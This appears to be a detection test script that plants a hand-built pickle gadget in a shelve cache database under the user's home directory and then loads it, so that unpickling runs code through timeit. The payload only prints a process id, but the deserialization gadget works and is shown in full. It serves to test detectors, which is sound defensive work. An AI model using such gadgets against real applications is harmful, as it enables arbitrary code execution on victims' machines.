# technique: T1059.006 T1203
"""Poisoned shelve database: reading one key unpickles a gadget that runs code via timeit (T1059.006, T1203).

An application's cache is a shelve (dbm.dumb files under HOME). The
attacker's entry is written as raw pickle bytes straight into the
database, not through shelve; when the application reads the key, shelve
unpickles it and the gadget calls timeit.timeit(stmt, number=1), which
compiles and runs the statement. The unpickling call is inside shelve.

A good detector raises a high alert: data loaded from a file is unpickled
into a call of a code-running function (timeit) and code runs.
"""
import dbm.dumb
import os
import shelve

path = os.path.join(os.path.expanduser("~"), ".cache", "app-state")
os.makedirs(os.path.dirname(path), exist_ok=True)
stmt = "import os;print('shelve gadget ran in', os.getpid())"
gadget = b"ctimeit\ntimeit\n(V" + stmt.encode() + b"\nVpass\nctime\nperf_counter\nI1\ntR."
with dbm.dumb.open(path, "c") as db:
    db[b"last_session"] = gadget
with shelve.Shelf(dbm.dumb.open(path, "r")) as cache:
    print("loaded value", cache["last_session"])
